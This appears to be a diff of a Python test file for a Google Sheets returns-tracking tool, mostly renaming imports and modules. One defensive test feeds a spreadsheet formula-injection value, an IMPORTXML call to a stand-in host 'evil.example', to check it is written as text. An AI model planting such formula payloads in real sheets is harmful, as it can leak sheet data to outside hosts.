@@ -6,12 +6,12 @@ from datetime import date, datetime
 
 from click.testing import CliRunner
 
-from sheetreturns import job
+from sheetreturns import api, loading
 from sheetreturns.cli import main
-from sheetreturns.columns import column_letter
-from sheetreturns.gsheet import writer
-from sheetreturns.gsheet.workbook import open_google_sheet
-from sheetreturns.plan import build_plan
+from sheetreturns.engine.columns import column_letter
+from sheetreturns.google_sheets import writer
+from sheetreturns.google_sheets.workbook import open_google_sheet
+from sheetreturns.sheet.write_plan import build_plan
 from tests.gsheet_support import by_id, cell_format, google_sheet, local_config, server, writes  # noqa: F401
 from tests.helpers import AS_OF, STANDARD_HEADERS, basic_row
 
@@ -20,7 +20,7 @@ JOB_HEADERS = ["Status", "Next Step", "Problems", "Inventory", "Reason Category"
 
 
 def sync(server, key, tmp_path, **kwargs):
-    return job.sync(f"gsheet:{key}", as_of=AS_OF, config=local_config(server, tmp_path), now=NOW, **kwargs)
+    return api.sync(f"gsheet:{key}", as_of=AS_OF, config=local_config(server, tmp_path), now=NOW, **kwargs)
 
 
 def three_returns():
@@ -88,7 +88,7 @@ def test_text_that_looks_like_a_formula_is_written_as_text(server, tmp_path):
     key = google_sheet(server, [basic_row()])
     config = local_config(server, tmp_path)
     with open_google_sheet(key, config) as book:
-        loaded = job.load(f"gsheet:{key}", AS_OF, config)
+        loaded = loading.load(f"gsheet:{key}", AS_OF, config)
         plan = build_plan(loaded.tab, loaded.header, loaded.evaluation)
         plan.rows[2]["next_step"] = "=IMPORTXML(\"http://evil.example\")"
         plan.rows[2]["problems"] = "+1 more; -2; @home"
@@ -106,7 +106,7 @@ def test_text_that_looks_like_a_formula_is_written_as_text(server, tmp_path):
 def test_contacted_on_dates_are_real_dates_with_a_date_format(server, tmp_path):
     key = google_sheet(server, [basic_row()])
     config = local_config(server, tmp_path)
-    loaded = job.load(f"gsheet:{key}", AS_OF, config)
+    loaded = loading.load(f"gsheet:{key}", AS_OF, config)
     plan = build_plan(loaded.tab, loaded.header, loaded.evaluation, contacted_on={"R-00001": date(2026, 11, 21)},
                       last_email={"R-00001": "acknowledgement 2026-11-21"})
     loaded.workbook.apply(plan, dry_run=False)
@@ -146,7 +146,7 @@ def test_rows_without_seller_data_lose_stale_job_values(server, tmp_path):
 def test_intake_rows_are_appended_in_the_one_structure_call_below_the_table(server, tmp_path):
     key = google_sheet(server, three_returns())
     config = local_config(server, tmp_path)
-    loaded = job.load(f"gsheet:{key}", AS_OF, config)
+    loaded = loading.load(f"gsheet:{key}", AS_OF, config)
     plan = build_plan(loaded.tab, loaded.header, loaded.evaluation)
     plan.append = [{"order_id": "2001", "email": "amy@example.com", "sku": "=CUP", "notified_on": date(2026, 11, 25)},
                    {"order_id": "2002", "email": "bo@example.com", "sku": "00123", "qty": 2}]
